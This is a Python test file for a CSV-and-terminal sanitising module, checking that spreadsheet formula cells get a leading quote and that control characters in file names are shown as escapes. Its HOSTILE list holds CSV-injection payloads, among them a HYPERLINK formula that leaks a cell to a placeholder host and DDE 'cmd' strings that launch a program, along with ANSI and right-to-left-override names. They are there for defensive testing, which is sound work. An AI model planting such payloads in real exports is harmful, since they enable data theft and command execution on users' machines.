"""CSV cells a spreadsheet will not run (OWASP "CSV Injection") and names a terminal will not obey."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis.csvsafe import safe_cell, safe_frame, terminal_safe, to_safe_csv

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_get_a_leading_quote(value: str) -> None:
    out = safe_cell(value)
    assert out.startswith("'")
    # the text after the quote is the value (a bare CR is written as LF, see below)
    assert out[1:] == value.replace("\r", "\n")


@pytest.mark.parametrize("value", ["-3.5", "+2", "-0.001", "-1e-3", "+.5", "-12.", "3.5", "-7"])
def test_numbers_with_a_sign_stay_numbers(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["easy run", "5k, barefoot", "", "x=1", " =not first", "'=x"])
def test_harmless_text_is_untouched(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [None, -3.5, 7, np.nan, pd.Timestamp("2026-05-04"), True])
def test_values_that_are_not_text_are_untouched(value: object) -> None:
    out = safe_cell(value)
    assert out is value


def test_a_frame_keeps_numbers_and_prefixes_text_and_headers() -> None:
    frame = pd.DataFrame(
        {
            "date": pd.to_datetime(["2026-05-04", "2026-05-05"]),
            "load": [-3.5, 12.0],
            "notes": ["=HYPERLINK(1)", "-3.5"],
            "=evil header": ["ok", None],
        }
    )
    safe = safe_frame(frame)
    assert list(safe.columns) == ["date", "load", "notes", "'=evil header"]
    assert safe["notes"].tolist() == ["'=HYPERLINK(1)", "-3.5"]
    assert safe["load"].dtype == np.dtype("float64")
    assert safe["date"].dtype == frame["date"].dtype
    assert frame["notes"].iloc[0] == "=HYPERLINK(1)"  # the input is not changed


def test_to_safe_csv_reads_back_with_every_hostile_cell_prefixed() -> None:
    frame = pd.DataFrame({"file": HOSTILE, "n": range(len(HOSTILE))})
    text = to_safe_csv(frame, index=False)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(HOSTILE)
    for row, value in zip(rows, HOSTILE, strict=True):
        assert row["file"] == "'" + value.replace("\r", "\n")
    assert [int(row["n"]) for row in rows] == list(range(len(HOSTILE)))
    assert to_safe_csv(frame, index=False, encoding="utf-8") == text.encode("utf-8")


def test_a_bare_carriage_return_does_not_split_a_row() -> None:
    # a writer whose lines end in LF quotes a cell with LF, but not one with a lone CR
    frame = pd.DataFrame({"notes": ["felt\rgood", "two\r\nlines"], "n": [1, 2]})
    text = to_safe_csv(frame, index=False, lineterminator="\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["notes", "n"], ["felt\ngood", "1"], ["two\r\nlines", "2"]]


@given(st.text(max_size=20))
def test_no_cell_starts_a_formula_after_safe_cell(value: str) -> None:
    out = safe_cell(value)
    if out.startswith(("=", "+", "-", "@", "\t", "\r")):
        float(out)  # only a plain number may keep its sign


# ---- terminal --------------------------------------------------------------------------------


def test_ansi_escapes_in_a_name_are_shown_not_obeyed() -> None:
    assert terminal_safe("run\x1b[31mred\x1b[0m.fit") == "run\\x1b[31mred\\x1b[0m.fit"


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("a\rb", "a\\x0db"),
        ("a\nb", "a\\x0ab"),
        ("a\x07b", "a\\x07b"),  # bell
        ("a\x7fb", "a\\x7fb"),  # DEL
        ("a\x9b31mb", "a\\x9b31mb"),  # the one-character C1 CSI
        ("run\u202eetif.gpx", "run\\u202eetif.gpx"),  # right-to-left override
        ("Løb på løbebånd 5 km.fit", "Løb på løbebånd 5 km.fit"),
    ],
)
def test_control_characters_become_visible_escapes(name: str, shown: str) -> None:
    assert terminal_safe(name) == shown


@given(st.text(max_size=30))
def test_terminal_safe_leaves_no_control_character(text: str) -> None:
    out = terminal_safe(text)
    assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F for ch in out)
    assert "\u202e" not in out


def test_only_ascii_digits_make_a_number() -> None:
    assert safe_cell("-\u0663") == "'-\u0663"  # Arabic-Indic three
